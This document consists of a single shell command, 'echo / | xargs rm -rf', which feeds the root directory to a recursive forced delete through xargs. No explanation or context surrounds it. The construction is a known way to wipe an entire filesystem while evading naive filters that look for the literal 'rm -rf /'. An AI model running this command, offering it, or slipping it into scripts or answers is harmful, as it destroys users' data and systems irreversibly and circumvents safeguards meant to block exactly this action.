echo / | xargs rm -rf
